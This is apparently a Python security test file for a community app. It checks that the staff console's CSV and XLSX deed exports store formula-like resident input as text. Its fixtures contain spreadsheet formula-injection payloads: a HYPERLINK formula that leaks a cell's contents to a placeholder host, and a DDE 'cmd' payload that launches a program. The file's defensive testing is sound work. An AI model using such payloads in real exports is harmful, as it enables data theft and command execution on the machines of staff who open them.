"""Finding 1 of issue 19: a resident's nickname or deed description that begins like a
formula reaches a staff member's spreadsheet as text, never as a formula, in CSV and XLSX."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl

from kernel import tabular
from tests.security.console_session import console_client

NICKNAME = '=HYPERLINK("http://x.example/?n="&B3,"点击核实")'
DESCRIPTIONS = ("+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "=1+1", "好人好事")
# Actions a resident reports without evidence, each within its daily cap.
ACTIONS = (
    "neighbourly-harmony",
    "neighbourly-harmony",
    "neighbourly-harmony",
    "zebra-crossing",
    "waste-sorting",
    "finish-your-water",
)


async def _deeds_with_formulas(world: Any) -> None:
    me = await world.resident.client.patch("/api/v1/me", json={"nickname": NICKNAME})
    assert me.status_code == 200, me.text
    when = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    for action, text in zip(ACTIONS, DESCRIPTIONS, strict=True):
        deed = await world.resident.client.post(
            "/api/v1/deeds", json={"action": action, "description": text, "occurred_at": when}
        )
        assert deed.status_code == 201, deed.text


def _period() -> dict[str, str]:
    today = datetime.now(ZoneInfo("Asia/Shanghai")).date()
    return {"from": (today - timedelta(days=2)).isoformat(), "to": today.isoformat()}


async def test_an_xlsx_export_holds_formula_like_text_as_text_cells(world):
    await _deeds_with_formulas(world)
    async with console_client(world.app, "d1-admin") as console:
        answer = await console.get("/console/exports/deeds", params={"format": "xlsx", **_period()})
    assert answer.status_code == 200, answer.text
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(DESCRIPTIONS)
    nicknames = [row[1] for row in rows]
    descriptions = [row[6] for row in rows]
    photos = [row[11] for row in rows]
    for cell in (*nicknames, *descriptions):
        assert cell.data_type == "s", (cell.value, cell.data_type)  # a string, not "f"
    assert {c.value for c in nicknames} == {NICKNAME}  # exactly what the resident wrote
    assert {c.value for c in descriptions} == set(DESCRIPTIONS)
    # Formula-like text carries Excel's quote prefix (stays text when edited); other text not.
    for cell in (*nicknames, *descriptions):
        assert cell.quotePrefix == str(cell.value).startswith(tabular.FORMULA_STARTS)
    assert all(c.data_type == "n" and c.value == 0 for c in photos)  # numbers stay numbers


async def test_a_csv_export_guards_formula_like_text_with_an_apostrophe(world):
    await _deeds_with_formulas(world)
    async with console_client(world.app, "d1-admin") as console:
        answer = await console.get("/console/exports/deeds", params={"format": "csv", **_period()})
    assert answer.status_code == 200, answer.text
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]
    assert len(rows) == len(DESCRIPTIONS)
    assert {row[1] for row in rows} == {"'" + NICKNAME}
    guarded = {text if text == "好人好事" else "'" + text for text in DESCRIPTIONS}
    assert {row[6] for row in rows} == guarded
    assert {row[11] for row in rows} == {"0"}  # a number, unguarded


async def _rows(chunk: list[list[Any]]) -> AsyncIterator[list[list[Any]]]:
    yield chunk


async def _written(fmt: tabular.Format, rows: list[list[Any]]) -> bytes:
    body = tabular.stream(fmt, "sheet", ["text", "number"], _rows(rows))
    return b"".join([data async for data in body])


async def test_the_shared_writer_keeps_negative_numbers_numbers_and_text_text():
    """The writer every export uses (console exports, a unit's credit record in the console
    and the API): a negative number is a number; the same characters as text are guarded."""
    rows = [["-2.5", -2.5], ["@cmd", 3], ["\rline", 0.5], ["\tx", 1], ["plain", -7]]
    sheet = openpyxl.load_workbook(io.BytesIO(await _written("xlsx", rows))).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    # openpyxl leaves XML's escape of a carriage return (`_x000D_`) as written.
    texts = [(c[0].data_type, str(c[0].value).replace("_x000D_", "\r")) for c in cells]
    assert texts == [("s", r[0]) for r in rows]
    assert [(c[1].data_type, c[1].value) for c in cells] == [("n", r[1]) for r in rows]
    text = (await _written("csv", rows)).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))[1:]
    assert lines == [
        ["'-2.5", "-2.5"],
        ["'@cmd", "3"],
        ["'\rline", "0.5"],
        ["'\tx", "1"],
        ["plain", "-7"],
    ]
